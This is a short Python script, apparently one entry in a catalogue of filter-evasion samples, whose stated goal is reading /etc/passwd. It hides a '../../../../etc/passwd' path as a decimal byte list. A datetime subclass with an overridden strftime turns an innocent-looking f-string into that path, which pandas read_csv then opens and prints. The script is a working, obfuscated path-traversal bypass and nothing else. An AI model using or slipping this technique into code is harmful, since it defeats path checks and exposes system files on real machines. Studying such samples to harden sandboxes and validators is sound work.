# source: CPython datetime.__format__ -> self.strftime(spec) (method lookup, overridable in subclass); pandas read_csv path
# family: f-string path {i:03d} whose value is a datetime subclass overriding strftime (read side)
# goal: read /etc/passwd
import datetime
import pandas as pd

TAIL = bytes([46, 46, 47, 46, 46, 47, 46, 46, 47, 46, 46, 47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100]).decode()

class Stamp(datetime.datetime):
    def strftime(self, fmt):
        return TAIL

i = Stamp(2024, 1, 2)
df = pd.read_csv(f"{i:03d}", sep="\t", header=None)
print(df.to_string())
